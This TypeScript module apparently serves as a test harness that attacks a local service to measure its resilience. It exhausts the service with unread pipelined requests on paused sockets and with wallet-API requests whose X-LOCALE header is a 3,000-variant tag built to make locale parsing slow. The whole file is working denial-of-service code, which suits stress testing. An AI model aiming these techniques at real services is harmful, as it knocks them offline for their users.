import { connect, type Socket } from 'node:net';

export interface AttackOptions {
  /** Packets of pipelined requests whose answers are never read, each on a connection of its own. */
  packets: number;
  /** Requests a second whose `X-LOCALE` is as long as headers may be. */
  localesPerSecond: number;
  seconds: number;
}

export interface Attack {
  /** Resolves when everything was sent. */
  sent: Promise<void>;
  /** Of the packets' connections, those that the service has closed. */
  closed(): number;
  /** Requests with a long locale that are not answered yet, or never will be. */
  unanswered(): number;
  /** Lets go of the connections. */
  stop(): void;
}

const host = '127.0.0.1';
/** What Node reads at once, and so parses before it looks whether anybody reads. */
const packetBytes = 64 * 1024;
const request = 'GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n';
export const requestsInPacket = Math.floor(packetBytes / request.length);
const probeEveryMs = 500;

/** A well-formed tag of so many variants that finding its locale takes tens of milliseconds. */
const variants = Array.from({ length: 3_000 }, (_, index) => `${index + 5_000}`).join('-');
const localeRequest = [
  'GET /api/v1/wallets HTTP/1.1',
  'Host: a',
  'Connection: close',
  `X-LOCALE: en-${variants}`,
  '\r\n',
].join('\r\n');

/** Sends packets and requests evenly over the time given; knows no key. */
export function startAttack(port: number, { packets, localesPerSecond, seconds }: AttackOptions): Attack {
  const unread = new Set<Socket>();
  const lost = new Set<Socket>();
  let unanswered = 0;
  // A socket that is not read from learns of its end by writing alone; an empty line before a request means nothing.
  const probing = setInterval(() => {
    for (const socket of unread) if (!lost.has(socket)) socket.write('\r\n');
  }, probeEveryMs).unref();
  function sendPacket(): void {
    const socket = connect(port, host).pause();
    unread.add(socket);
    socket.on('error', () => lost.add(socket));
    socket.on('close', () => lost.add(socket));
    socket.write(request.repeat(requestsInPacket));
  }
  function sendLocale(): void {
    const socket = connect(port, host);
    socket.on('error', () => undefined);
    unanswered += 1;
    socket.once('data', () => (unanswered -= 1));
    socket.end(localeRequest);
  }
  const sent = Promise.all([
    evenly(packets, seconds, sendPacket),
    evenly(localesPerSecond * seconds, seconds, sendLocale),
  ]).then(() => undefined);
  return {
    sent,
    closed: () => lost.size,
    unanswered: () => unanswered,
    stop() {
      clearInterval(probing);
      for (const socket of unread) socket.destroy();
    },
  };
}

/** What fell behind is caught up with: a slow service does not slow its attacker. */
async function evenly(count: number, seconds: number, act: () => void): Promise<void> {
  const startedAt = performance.now();
  for (let done = 0; done < count;) {
    const due = Math.min(count, Math.ceil(((performance.now() - startedAt) / 1000 / seconds) * count));
    for (; done < due; done += 1) act();
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
}
